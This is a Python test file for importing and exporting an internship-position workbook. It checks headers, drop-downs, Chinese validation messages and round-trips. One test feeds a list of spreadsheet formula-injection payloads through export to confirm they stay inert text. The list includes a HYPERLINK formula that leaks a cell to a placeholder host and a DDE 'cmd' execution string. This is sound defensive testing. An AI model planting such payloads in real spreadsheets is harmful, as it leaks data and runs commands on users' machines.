"""The 岗位征集表 workbook: template, import through the one model, export, and inert hostile cells."""

import datetime as dt
import zipfile
from io import BytesIO
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from site_builder.model.catalogue import Catalogue, PositionEntry, UnitEntry
from site_builder.model.vocab import DISTRICTS, EDUCATION_LEVELS, POSITION_TYPES, TRACKS, UNIT_CATEGORIES
from site_builder.spreadsheet import (
    OPTIONS_SHEET,
    POSITION_SHEET,
    UNIT_SHEET,
    export_workbook,
    read_import,
    read_workbook,
    template_workbook,
    workbook_bytes,
)

TODAY = dt.date(2026, 6, 1)
UNIT = {
    "单位名称": "重庆市示例青年科技学会（示例）",
    "统一社会信用代码": "91110000600037341L",
    "单位类别": "市级学会（协会、研究会）",
    "单位所在区县": "渝中区",
    "单位地址": "重庆市渝中区示例路 1 号",
    "就业见习单位认定状态": "已认定",
    "认定部门": "重庆市渝中区人力资源和社会保障局",
    "认定日期": dt.datetime(2026, 3, 15),
    "单位联系人": "张示例",
    "单位联系人电话": "023-63000001",
    "单位联系人邮箱": "contact@example.com",
}
POSITION = {
    "岗位名称": "学术会议组织助理（示例）",
    "岗位类型": "学术助理",
    "岗位性质": "科技见习",
    "招收人数": 2.0,
    "导师1姓名": "李示例",
    "导师1职称": "学术部部长",
    "岗位职责": "协助策划和组织学会年会、青年学术沙龙。\r\n联系会员，整理会员信息和会议资料。",
    "见习收获": "掌握学术会议组织流程，学会基本的数据整理与分析。",
    "专业要求": "计算机类、 统计学，数学类",
    "最低学历": "本科",
    "工作地点区县": "渝中区",
    "工作地点详细地址": "重庆市渝中区示例路 1 号",
    "每月生活费（元）": 2600,
    "开始日期": dt.datetime(2027, 7, 1),
    "结束日期": "2027-12-31",
    "报名截止日期": dt.date(2027, 6, 15),
    "产业领域标签": "数智科技",
}


def fill(unit: dict[str, Any], rows: list[dict[str, Any]], workbook: Workbook | None = None) -> bytes:
    """Fill the template as a clerk would: unit values beside their labels, one position per row."""
    workbook = workbook or template_workbook()
    sheet = workbook[UNIT_SHEET]
    for row in sheet.iter_rows(min_row=2):
        if row[0].value in unit:
            row[1].value = unit[row[0].value]
    sheet = workbook[POSITION_SHEET]
    headers = [c.value for c in sheet[1]]
    for number, values in enumerate(rows, start=2):
        for header, value in values.items():
            sheet.cell(number, headers.index(header) + 1).value = value
    return workbook_bytes(workbook)


def test_template_has_chinese_headers_and_drop_downs() -> None:
    workbook = load_workbook(BytesIO(workbook_bytes(template_workbook())))
    assert workbook.sheetnames == [UNIT_SHEET, POSITION_SHEET, OPTIONS_SHEET]
    assert workbook[OPTIONS_SHEET].sheet_state == "hidden"

    sheet = workbook[POSITION_SHEET]
    headers = [c.value for c in sheet[1]]
    assert headers[:10] == [
        "岗位名称", "岗位类型", "岗位性质", "招收人数",
        "导师1姓名", "导师1职称", "导师2姓名", "导师2职称", "导师3姓名", "导师3职称",
    ]  # fmt: skip
    for header in ("岗位职责", "见习收获", "专业要求", "最低学历", "工作地点区县", "工作地点详细地址",
                   "每月生活费（元）", "开始日期", "结束日期", "报名截止日期", "产业领域标签",
                   "岗位联系人", "岗位联系人电话", "岗位联系人邮箱"):  # fmt: skip
        assert header in headers
    assert sheet.freeze_panes == "B2"
    letter = {h: chr(ord("A") + i) for i, h in enumerate(headers)}
    for header in ("开始日期", "结束日期", "报名截止日期"):
        assert sheet.column_dimensions[letter[header]].number_format == "yyyy-mm-dd"

    options = workbook[OPTIONS_SHEET]
    lists = {
        options.cell(1, c).value: [options.cell(r, c).value for r in range(2, options.max_row + 1)]
        for c in range(1, options.max_column + 1)
    }

    def drop_downs(sheet_name: str) -> dict[str, list[str]]:
        """Cells → the values their list validation offers, read back through the range it names."""
        found = {}
        for validation in workbook[sheet_name].data_validations.dataValidation:
            if validation.type != "list":
                continue
            sheet_part, cells = validation.formula1.split("!")
            assert sheet_part == f"'{OPTIONS_SHEET}'"
            column = options[cells.replace("$", "").split(":")[0][0]][0].column
            values = [v for v in lists[options.cell(1, column).value] if v is not None]
            found[str(validation.sqref).split(":")[0]] = values
        return found

    on_positions = drop_downs(POSITION_SHEET)
    assert on_positions[f"{letter['岗位类型']}2"] == list(POSITION_TYPES)
    assert on_positions[f"{letter['岗位性质']}2"] == list(TRACKS)
    assert on_positions[f"{letter['工作地点区县']}2"] == list(DISTRICTS)
    assert len(DISTRICTS) == 41
    assert on_positions[f"{letter['最低学历']}2"] == list(EDUCATION_LEVELS)

    labels = {row[0].value: row[0].row for row in workbook[UNIT_SHEET].iter_rows(min_row=2)}
    on_unit = drop_downs(UNIT_SHEET)
    assert on_unit[f"B{labels['单位类别']}"] == list(UNIT_CATEGORIES)
    assert on_unit[f"B{labels['单位所在区县']}"] == list(DISTRICTS)
    assert on_unit[f"B{labels['就业见习单位认定状态']}"] == ["申报中", "已认定"]
    assert [c.value for c in workbook[UNIT_SHEET][1]] == ["字段", "填写内容", "说明"]


def test_filled_template_imports_through_the_model() -> None:
    second = {**POSITION, "岗位名称": "科普活动助理（示例）", "岗位类型": "科普助理", "岗位性质": "职业体验",
              "导师1姓名": None, "导师1职称": None, "导师3姓名": "王示例", "导师3职称": "馆员",
              "招收人数": 3, "产业领域标签": None, "岗位联系人": "赵示例",
              "岗位联系人电话": 13800000008, "岗位联系人邮箱": "zhao@example.com"}  # fmt: skip
    data = fill(UNIT, [POSITION, {}, second])  # a blank row between them is skipped
    unit, positions, problems = read_workbook(data, "岗位征集表.xlsx", today=TODAY)
    assert problems == []
    assert unit is not None and unit.hr_approval.date == dt.date(2026, 3, 15)
    assert unit.hr_approval.status == "approved" and unit.website is None
    first, other = positions
    assert first.headcount == 2 and isinstance(first.headcount, int)
    assert first.duties == "协助策划和组织学会年会、青年学术沙龙。\n联系会员，整理会员信息和会议资料。"
    assert first.majors == ["计算机类", "统计学", "数学类"]
    assert (first.start_date, first.end_date, first.deadline) == (
        dt.date(2027, 7, 1), dt.date(2027, 12, 31), dt.date(2027, 6, 15),
    )  # fmt: skip
    assert first.published == TODAY and first.status == "open" and first.contact is None
    assert first.tags == ["数智科技"]
    assert [(m.name, m.title) for m in other.mentors] == [("王示例", "馆员")]
    assert other.contact is not None and other.contact.phone == "13800000008"
    assert other.tags == []


def test_errors_in_three_rows_are_all_reported_and_nothing_is_returned() -> None:
    rows = [
        POSITION,
        {**POSITION, "岗位性质": "实习"},
        {**POSITION, "招收人数": 4},
        {**POSITION, "开始日期": "2027/07/01", "导师1职称": None},
    ]
    data = fill(UNIT, rows)
    result = read_import(data, "岗位征集表.xlsx", today=TODAY)
    assert [str(p) for p in result.problems] == [
        "岗位征集表.xlsx:岗位:第3行:C列（岗位性质）: 应为以下之一：科技见习、职业体验",
        "岗位征集表.xlsx:岗位:第4行:D列（招收人数）: "
        "招收 4 人至少需要 2 名导师（每名导师最多同时带教 3 名学生），现有 1 名",
        "岗位征集表.xlsx:岗位:第5行:F列（导师1职称）: 缺少必填项",
        "岗位征集表.xlsx:岗位:第5行:R列（开始日期）: 日期格式不对，应写成 YYYY-MM-DD（如 2026-07-01）",
    ]
    assert (result.unit, result.positions) == (None, [])


def test_unit_sheet_errors_name_their_row() -> None:
    unit = {**UNIT, "统一社会信用代码": "91110000600037341A", "就业见习单位认定状态": "已通过",
            "单位联系人电话": 12345}  # fmt: skip
    unit_result, positions, problems = read_workbook(fill(unit, [POSITION]), "表.xlsx", today=TODAY)
    assert [str(p) for p in problems] == [
        "表.xlsx:单位信息:第3行:B列（统一社会信用代码）: "
        "统一社会信用代码校验位不正确：最后一位应为 L，请核对是否抄错",
        "表.xlsx:单位信息:第8行:B列（就业见习单位认定状态）: 应为以下之一：申报中、已认定",
        "表.xlsx:单位信息:第12行:B列（单位联系人电话）: "
        "电话号码格式不对：应为 11 位手机号，或带区号的座机号（如 023-63002289）",
    ]
    assert (unit_result, positions) == (None, [])


def test_list_items_name_their_position() -> None:
    data = fill(UNIT, [{**POSITION, "产业领域标签": "数智科技、元宇宙"}])
    _, _, problems = read_workbook(data, "表.xlsx", today=TODAY)
    assert len(problems) == 1
    expected = "表.xlsx:岗位:第2行:U列（产业领域标签）: 第 2 项：应为以下之一：数智科技、"
    assert str(problems[0]).startswith(expected)


def test_formulas_unknown_columns_and_empty_sheets_are_refused() -> None:
    workbook = template_workbook()
    workbook[POSITION_SHEET]["Z1"] = "备注"
    data = fill(UNIT, [{**POSITION, "招收人数": "=1+1"}], workbook)
    _, _, problems = read_workbook(data, "表.xlsx", today=TODAY)
    assert [str(p) for p in problems] == [
        "表.xlsx:岗位:第1行:Z列（备注）: 不认识的列名，请使用模板中的列名",
    ]
    _, _, problems = read_workbook(fill(UNIT, [{**POSITION, "招收人数": "=1+1"}]), "表.xlsx", today=TODAY)
    assert [str(p) for p in problems] == [
        "表.xlsx:岗位:第2行:D列（招收人数）: 单元格里是公式，请直接填写内容（可复制后“选择性粘贴→值”）",
    ]
    _, _, problems = read_workbook(fill(UNIT, []), "表.xlsx", today=TODAY)
    assert [str(p) for p in problems] == ["表.xlsx:岗位: 没有填写任何岗位：每个岗位填一行"]
    _, _, problems = read_workbook(b"not a workbook", "表.xlsx", today=TODAY)
    assert len(problems) == 1 and "不是有效的 .xlsx 文件" in str(problems[0])


def _unit_only(catalogue: Catalogue, slug: str) -> Catalogue:
    return Catalogue(
        units={slug: catalogue.units[slug]},
        positions=[e for e in catalogue.positions if e.unit_slug == slug],
    )


def test_export_then_import_gives_back_the_unit_and_its_positions(sample_catalogue: Catalogue) -> None:
    slug = "shili-engineering-journal"
    entries = [e for e in sample_catalogue.positions if e.unit_slug == slug]
    data = workbook_bytes(export_workbook(sample_catalogue, [slug]))
    result = read_import(data, "导出.xlsx", today=TODAY)
    assert result.problems == []
    assert result.unit == sample_catalogue.units[slug].unit
    assert result.positions == [e.position for e in entries]
    assert result.position_ids == [e.id for e in entries]
    assert read_import(workbook_bytes(export_workbook(_unit_only(sample_catalogue, slug))), "x.xlsx",
                       today=TODAY).positions == result.positions  # fmt: skip


def test_export_of_many_units_is_one_sheet_but_imports_one_unit_at_a_time(
    sample_catalogue: Catalogue,
) -> None:
    workbook = export_workbook(sample_catalogue)
    sheet = workbook[POSITION_SHEET]
    assert sheet.max_row == len(sample_catalogue.positions) + 1
    headers = [c.value for c in sheet[1]]
    assert headers[0] == "岗位编号" and "统一社会信用代码" in headers and "岗位状态" in headers
    problems = read_import(workbook_bytes(workbook), "汇总.xlsx", today=TODAY).problems
    assert problems and all("一次只能导入同一家单位的岗位" in str(p) for p in problems)


HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "#N/A",
    "\t=1+1",
]


def test_hostile_cells_stay_strings(sample_catalogue: Catalogue) -> None:
    slug = "shili-engineering-journal"
    catalogue = _unit_only(sample_catalogue, slug)
    entry = catalogue.positions[0]
    hostile_positions = [
        PositionEntry(f"{slug}/hostile-{n}", f"hostile-{n}", slug, entry.path,
                      entry.position.model_copy(update={"title": text, "majors": [text]}))
        for n, text in enumerate(HOSTILE)
    ]  # fmt: skip
    unit = catalogue.units[slug]
    hostile_unit = UnitEntry(slug, unit.path, unit.unit.model_copy(update={"address": HOSTILE[0]}))
    data = workbook_bytes(export_workbook(Catalogue({slug: hostile_unit}, hostile_positions)))

    with zipfile.ZipFile(BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml

    sheet = load_workbook(BytesIO(data))[POSITION_SHEET]
    headers = [c.value for c in sheet[1]]
    title_column = headers.index("岗位名称") + 1
    address_column = headers.index("单位地址") + 1
    for row, text in enumerate(HOSTILE, start=2):
        cell = sheet.cell(row, title_column)
        assert (cell.value, cell.data_type) == (text, "s")
        assert cell.quotePrefix == text.startswith(("=", "+", "-", "@", "\t"))
        assert sheet.cell(row, address_column).data_type == "s"

    result = read_import(data, "导出.xlsx", today=TODAY)
    assert result.problems == []
    assert [p.title for p in result.positions] == [text.strip() for text in HOSTILE]
    assert result.unit is not None and result.unit.address == HOSTILE[0]


@pytest.mark.parametrize("header", ["岗位类型", "工作地点区县"])
def test_a_missing_column_is_named(header: str) -> None:
    workbook = template_workbook()
    sheet = workbook[POSITION_SHEET]
    headers = [c.value for c in sheet[1]]
    sheet.delete_cols(headers.index(header) + 1)
    _, _, problems = read_workbook(fill(UNIT, [], workbook), "表.xlsx", today=TODAY)
    assert [str(p) for p in problems] == [
        f"表.xlsx:岗位:第1行: 缺少这些列：{header}，请使用最新的岗位征集表模板"
    ]
